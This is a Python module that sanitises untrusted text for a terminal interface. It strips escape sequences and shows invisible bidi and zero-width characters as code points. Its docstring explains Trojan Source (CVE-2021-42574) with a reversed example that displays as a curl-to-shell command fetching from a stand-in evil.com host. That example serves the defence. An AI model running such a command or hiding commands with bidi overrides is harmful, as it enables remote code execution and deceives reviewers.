"""The one door for text from someone else (a journal, a session file, a pattern, a gate's or a
workload's output, an exception): `printable` removes every terminal control sequence, and shows
every invisible character that could make text read other than it is, before the text reaches
Textual, a terminal or a report. Standard library only.

Nothing from outside carries colour in: SGR is removed with the rest, and the cockpit colours
text with its own styles. A gate's log file keeps the child's bytes as written (`less -R` shows
its colours); only what is shown of it passes here.

What is shown is what is there (Trojan Source, CVE-2021-42574): a right-to-left override turns
`run <U+202E>hs | moc.live//:ptth lruc` into `run curl http://evil.com | sh` on the screen, and a
zero-width space makes two names that look the same differ. Each such character is shown as its
code point, `<U+202E>`, so the words read in the order they are stored.
"""

from __future__ import annotations

import re

CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""A control character other than tab and newline: every escape sequence starts with one (ESC or a
C1), so text without one passes that half of the door at the speed of one character class."""

# 7-bit introducers (ESC x) and their 8-bit C1 twins (U+0080-U+009F) alike: a terminal that takes
# C1 controls acts on U+009B as on ESC [. An OSC or a string never runs past a line's end here, so
# an unterminated one cannot swallow the rest of a SESSION.md.
UNPRINTABLE = re.compile(
    r"(?:\x1b\]|\x9d)[^\x07\x1b\x9c\n]*(?:\x07|\x1b\\|\x9c)?"  # OSC: title 0/2, link 8, clipboard 52
    r"|(?:\x1b[PX^_]|[\x90\x98\x9e\x9f])[^\x1b\x9c\n]*(?:\x1b\\|\x9c)?"  # DCS, SOS, PM, APC strings
    r"|(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]"  # CSI: colours, cursor moves, erase, the alternate screen
    r"|\x1b[ -/]*[0-~]"  # two-byte and nF escapes
    r"|\r(?!\n)|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]"  # a lone ESC or CR; C0 but tab and LF; DEL; C1
)

HIDDEN = (
    "\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069"  # bidi: marks, embeddings, overrides, isolates
    "\u200b-\u200d\u2060\ufeff"  # zero width: space, non-joiner, joiner, word joiner, BOM
    # every other format character (Unicode category Cf) that draws nothing: soft hyphen,
    # Mongolian vowel separator, invisible operators, deprecated shaping controls, interlinear
    # annotation, Egyptian, shorthand and musical format controls, tags (ASCII text no one sees)
    "\u00ad\u180e\u2061-\u2065\u206a-\u206f\ufff9-\ufffb\U00013430-\U0001343f\U0001bca0-\U0001bca3"
    "\U0001d173-\U0001d17a\U000e0001\U000e0020-\U000e007f"
    "\u2028\u2029"  # line and paragraph separators: a line break to Python, nothing to a terminal
    "\u115f\u1160\u3164\uffa0"  # Hangul fillers: letters that draw nothing (invisible names)
)
"""Characters that change how text reads, or what it holds, without drawing anything. Left out on
purpose: the Cf characters that do draw (the Arabic, Syriac and Kaithi number signs and end of
ayah: U+0600-0605, U+06DD, U+070F, U+0890-0891, U+08E2, U+110BD, U+110CD) and variation selectors
(they pick the look of the character before them, an emoji's colour among them)."""

HIDDEN_ONE = re.compile(f"[{HIDDEN}]")
"""Text without one (all ASCII text: `str.isascii` is a flag) has nothing to show as a code point."""

EMOJI = "\u00a9\u00ae\u203c\u2049\u2122\u2139\u2194-\u21ff\u2300-\u23ff\u25a0-\u27bf\u2934\u2935" \
        "\u2b00-\u2bff\u3030\u303d\u3297\u3299\ufe0f\U0001f000-\U0001faff"
"""Emoji and what ends one (VS16, a skin tone): a zero width joiner between two of them draws one
picture (man + ZWJ + laptop is a technologist), so it is kept there; anywhere else it is shown."""

REVEALED = re.compile(
    "(?P<kept>\U0001f3f4[\U000e0020-\U000e007e]+\U000e007f"  # a subdivision flag: England, Scotland, Wales
    f"|(?<=[{EMOJI}])\u200d(?=[{EMOJI}]))"  # the joiner inside an emoji sequence
    f"|[{HIDDEN}]"
)


def _code_point(match: re.Match[str]) -> str:
    return match["kept"] or f"<U+{ord(match[0]):04X}>"


def printable(text: str, mark: str = "") -> str:
    """`text` with every escape sequence and control character removed; tabs, newlines and CRLF
    kept. A lone control character (not an escape) becomes `mark` when one is given, so a report
    can show that a byte was there. A hidden character (HIDDEN: a bidi control, a zero-width
    space, ...) is shown as its code point, `<U+202E>`, wherever the text goes."""
    if CONTROLS.search(text):
        text = (UNPRINTABLE.sub("", text) if not mark else
                UNPRINTABLE.sub(lambda m: mark if len(m[0]) == 1 and m[0] != "\x1b" else "", text))
    if text.isascii() or not HIDDEN_ONE.search(text):
        return text
    return REVEALED.sub(_code_point, text)


def holds_hidden(text: str) -> bool:
    """Whether `printable` would spell out a hidden character of `text` as its code point (so
    text shown through the door and saved back would not be the text that was read)."""
    if text.isascii() or HIDDEN_ONE.search(text) is None:
        return False
    return REVEALED.sub(_code_point, text) != text


def unshown(text: str) -> str | None:
    """What `printable` changes in `text`, in words; None when it shows `text` as it is. Text shown
    through the door and saved back would have lost it."""
    what = []
    if CONTROLS.search(text) and UNPRINTABLE.search(text):
        what.append("control bytes (`cat -v` shows them)")
    if holds_hidden(text):
        what.append("hidden characters (shown as <U+…>)")
    return " and ".join(what) or None
